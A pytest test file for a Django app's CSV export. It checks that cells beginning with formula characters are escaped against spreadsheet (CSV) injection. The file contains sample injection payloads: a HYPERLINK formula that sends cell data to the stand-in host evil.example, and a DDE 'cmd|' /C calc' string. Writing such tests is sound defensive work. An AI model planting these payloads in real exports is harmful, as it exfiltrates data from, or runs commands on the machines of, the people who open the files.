"""CSV injection: no cell the product exports starts a formula in a spreadsheet."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from tests.factories import HypothesisFactory
from tracking.exports import spreadsheet_safe

pytestmark = pytest.mark.django_db

PAYLOAD = 'HYPERLINK("https://evil.example/?"&A1,"Click")'


def _exported_rows(team, client) -> list[list[str]]:
    client.force_login(team.team_lead.user)
    response = client.get(reverse("hypotheses:history_csv", args=[team.company.pk]))
    raw = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(raw, newline="")))


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_title_that_would_start_a_formula_is_exported_as_text(start, team, client):
    title = start + PAYLOAD
    HypothesisFactory(company=team.company, metric=team.metric, title=title)
    rows = _exported_rows(team, client)
    assert ["'" + title] in [row[:1] for row in rows[1:]]
    assert all(not row[0].startswith(("=", "+", "-", "@")) for row in rows)


@pytest.mark.parametrize("start", ["\t", "\r"])
def test_a_text_that_starts_with_a_tab_or_carriage_return_is_exported_as_text(start, team, client):
    # Tabs and carriage returns are refused in titles; the longer texts keep them.
    statement = start + "=" + PAYLOAD
    HypothesisFactory(company=team.company, metric=team.metric, title="Tabbed", statement=statement)
    (row,) = [row for row in _exported_rows(team, client) if row[0] == "Tabbed"]
    assert "'" + statement in row
    assert statement not in row


def test_numbers_and_ordinary_text_are_written_as_they_are():
    assert spreadsheet_safe(["Plain", Decimal("-2.5"), -3, "", "a=b", "2-1"]) == [
        "Plain",
        Decimal("-2.5"),
        -3,
        "",
        "a=b",
        "2-1",
    ]


def test_a_negative_number_as_text_stays_a_number_and_a_formula_does_not():
    assert spreadsheet_safe(["-2.5", "-3", "-2+3+cmd|' /C calc'!A0", "-2.5.1", "-", "-1e3"]) == [
        "-2.5",
        "-3",
        "'-2+3+cmd|' /C calc'!A0",
        "'-2.5.1",
        "'-",
        "'-1e3",
    ]


def test_a_negative_measured_value_is_exported_as_a_number(team, client):
    HypothesisFactory(
        company=team.company, metric=team.metric, title="Shorter delivery", measured_value=Decimal("-2.5000")
    )
    (row,) = [row for row in _exported_rows(team, client) if row[0] == "Shorter delivery"]
    assert "-2.5" in row
    assert "'-2.5" not in row
